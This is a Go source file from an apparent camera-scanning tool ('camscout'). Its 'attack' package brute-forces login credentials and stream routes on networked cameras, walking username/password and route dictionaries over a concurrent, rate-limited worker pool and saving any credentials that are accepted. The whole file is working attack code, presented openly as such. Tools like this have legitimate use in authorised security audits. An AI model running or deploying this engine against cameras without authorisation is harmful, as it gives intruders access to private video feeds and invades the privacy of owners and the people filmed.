// Package attack brute-forces camera credentials and stream routes.
//
// Each record in the store's working set becomes one unit of work on a
// bounded worker pool. Within a unit the dictionary is walked in order and
// the first accepted entry wins, so dictionary order is a preference order.
package attack

import (
	"context"
	"fmt"
	"sync"
	"time"

	"github.com/panjf2000/ants/v2"
	"go.uber.org/zap"
	"golang.org/x/time/rate"

	"camscout/internal/config"
	"camscout/internal/dict"
	"camscout/internal/domain"
	"camscout/internal/interrupt"
	"camscout/internal/probe"
	"camscout/internal/repository"
)

// Summary tallies one attack run
type Summary struct {
	Total        int // records in the working set
	AlreadyFound int // resolved before the run, not probed
	Found        int // resolved during the run
	Exhausted    int // every dictionary entry rejected
	Unreachable  int // exhausted with at least one unreachable attempt
	Skipped      int // not started because of cancellation, or resolved elsewhere
}

func (s Summary) String() string {
	return fmt.Sprintf("total=%d already_found=%d found=%d exhausted=%d unreachable=%d skipped=%d",
		s.Total, s.AlreadyFound, s.Found, s.Exhausted, s.Unreachable, s.Skipped)
}

// result of a single record's walk
type result int

const (
	resultFound result = iota
	resultExhausted
	resultUnreachable
	resultSkipped
)

// Engine runs the credential and route attacks against a store
type Engine struct {
	store      repository.Store
	prober     probe.Prober
	dict       dict.Dictionary
	controller *interrupt.Controller
	logger     *zap.Logger
	workers    int
	interval   time.Duration
}

// Option configures an Engine
type Option func(*Engine)

// WithWorkers caps the number of records attacked concurrently
func WithWorkers(n int) Option {
	return func(e *Engine) {
		if n > 0 {
			e.workers = n
		}
	}
}

// WithInterval sets the minimum delay between two attempts on one record
func WithInterval(d time.Duration) Option {
	return func(e *Engine) {
		if d >= 0 {
			e.interval = d
		}
	}
}

// WithLogger sets the engine logger
func WithLogger(logger *zap.Logger) Option {
	return func(e *Engine) {
		if logger != nil {
			e.logger = logger
		}
	}
}

// NewEngine creates a new attack engine
func NewEngine(store repository.Store, prober probe.Prober, d dict.Dictionary, controller *interrupt.Controller, opts ...Option) *Engine {
	e := &Engine{
		store:      store,
		prober:     prober,
		dict:       d,
		controller: controller,
		logger:     zap.NewNop(),
		workers:    config.DefaultMaxWorkers,
	}
	for _, opt := range opts {
		opt(e)
	}
	e.logger = e.logger.Named("attack")
	return e
}

// CredentialAttack tries every username/password pair on each record that
// has no credentials yet.
func (e *Engine) CredentialAttack(ctx context.Context) (Summary, error) {
	return e.run(ctx, "credentials",
		func(s domain.Stream) bool { return s.IDsFound },
		e.attackCredentials)
}

// PathAttack tries every route on each record whose route is unknown
func (e *Engine) PathAttack(ctx context.Context) (Summary, error) {
	return e.run(ctx, "routes",
		func(s domain.Stream) bool { return s.PathFound },
		e.attackRoutes)
}

func (e *Engine) run(ctx context.Context, kind string, resolved func(domain.Stream) bool, walk func(context.Context, domain.Stream) result) (Summary, error) {
	streams, err := e.store.GetStreams(ctx)
	if err != nil {
		return Summary{}, fmt.Errorf("failed to read streams: %w", err)
	}

	summary := Summary{Total: len(streams)}
	var pending []domain.Stream
	for _, s := range streams {
		if resolved(s) {
			summary.AlreadyFound++
			continue
		}
		pending = append(pending, s)
	}
	if len(pending) == 0 {
		e.logger.Info("Nothing to attack", zap.String("kind", kind), zap.Int("already_found", summary.AlreadyFound))
		return summary, nil
	}

	size := e.workers
	if size > len(pending) {
		size = len(pending)
	}

	var (
		wg sync.WaitGroup
		mu sync.Mutex
	)
	tally := func(r result) {
		mu.Lock()
		defer mu.Unlock()
		switch r {
		case resultFound:
			summary.Found++
		case resultExhausted:
			summary.Exhausted++
		case resultUnreachable:
			summary.Unreachable++
		default:
			summary.Skipped++
		}
	}

	pool, err := ants.NewPoolWithFunc(size, func(item interface{}) {
		defer wg.Done()
		stream := item.(domain.Stream)
		if !e.controller.Running() || ctx.Err() != nil {
			tally(resultSkipped)
			return
		}
		tally(walk(ctx, stream))
	})
	if err != nil {
		return summary, fmt.Errorf("failed to create worker pool: %w", err)
	}
	defer pool.Release()

	e.logger.Info("Starting attack",
		zap.String("kind", kind),
		zap.Int("targets", len(pending)),
		zap.Int("workers", size),
	)

	for _, s := range pending {
		wg.Add(1)
		if err := pool.Invoke(s); err != nil {
			wg.Done()
			tally(resultSkipped)
			e.logger.Warn("Failed to schedule attack", zap.Stringer("stream", s.Key()), zap.Error(err))
		}
	}
	wg.Wait()

	e.logger.Info("Attack finished", zap.String("kind", kind), zap.Stringer("summary", summary))
	return summary, nil
}

func (e *Engine) attackCredentials(ctx context.Context, stream domain.Stream) result {
	log := e.logger.With(zap.Stringer("stream", stream.Key()))
	limiter := e.newLimiter()

	var (
		username, password string
		tried, unreachable bool
	)
	for _, u := range e.dict.Usernames() {
		for _, p := range e.dict.Passwords() {
			if err := limiter.Wait(ctx); err != nil {
				return resultSkipped
			}
			username, password, tried = u, p, true

			outcome := e.prober.Probe(ctx, probe.Request{
				Stream:   stream,
				Username: u,
				Password: p,
				Route:    stream.Route,
				Kind:     probe.KindCredentials,
			})
			switch outcome {
			case probe.Authorized:
				log.Info("Credentials found", zap.String("username", u), zap.String("password", p))
				e.update(ctx, stream.WithCredentials(u, p, true))
				return resultFound
			case probe.Unreachable:
				log.Debug("Stream unreachable, trying next pair", zap.String("username", u))
				unreachable = true
			}
		}
	}

	if tried {
		e.update(ctx, stream.WithCredentials(username, password, false))
	}
	log.Debug("Credential dictionary exhausted", zap.Bool("unreachable", unreachable))
	return exhausted(unreachable)
}

func (e *Engine) attackRoutes(ctx context.Context, stream domain.Stream) result {
	log := e.logger.With(zap.Stringer("stream", stream.Key()))
	limiter := e.newLimiter()
	tracker, _ := e.store.(repository.ChangeTracker)

	var (
		route              string
		tried, unreachable bool
	)
	for _, r := range e.dict.Routes() {
		if e.resolvedElsewhere(ctx, tracker, stream) {
			log.Debug("Stream resolved elsewhere, aborting route attack")
			return resultSkipped
		}
		if err := limiter.Wait(ctx); err != nil {
			return resultSkipped
		}
		route, tried = r, true

		outcome := e.prober.Probe(ctx, probe.Request{
			Stream:   stream,
			Username: stream.Username,
			Password: stream.Password,
			Route:    r,
			Kind:     probe.KindRoute,
		})
		switch outcome {
		case probe.Authorized:
			if e.resolvedElsewhere(ctx, tracker, stream) {
				return resultSkipped
			}
			log.Info("Route found", zap.String("route", r))
			e.update(ctx, stream.WithRoute(r, true))
			return resultFound
		case probe.Unreachable:
			log.Debug("Stream unreachable, trying next route", zap.String("route", r))
			unreachable = true
		}
	}

	if tried && !e.resolvedElsewhere(ctx, tracker, stream) {
		e.update(ctx, stream.WithRoute(route, false))
	}
	log.Debug("Route dictionary exhausted", zap.Bool("unreachable", unreachable))
	return exhausted(unreachable)
}

// exhausted classifies a walk that ran out of dictionary entries
func exhausted(unreachable bool) result {
	if unreachable {
		return resultUnreachable
	}
	return resultExhausted
}

// resolvedElsewhere reports whether the stored copy of stream moved on
// since the walk started. Lookup errors are logged and ignored.
func (e *Engine) resolvedElsewhere(ctx context.Context, tracker repository.ChangeTracker, stream domain.Stream) bool {
	if tracker == nil {
		return false
	}
	changed, err := tracker.HasChanged(ctx, stream)
	if err != nil {
		e.logger.Warn("Failed to check stream state", zap.Stringer("stream", stream.Key()), zap.Error(err))
		return false
	}
	return changed
}

func (e *Engine) update(ctx context.Context, stream domain.Stream) {
	if err := e.store.UpdateStream(ctx, stream); err != nil {
		e.logger.Error("Failed to update stream", zap.Stringer("stream", stream.Key()), zap.Error(err))
	}
}

func (e *Engine) newLimiter() *rate.Limiter {
	if e.interval <= 0 {
		return rate.NewLimiter(rate.Inf, 1)
	}
	return rate.NewLimiter(rate.Every(e.interval), 1)
}
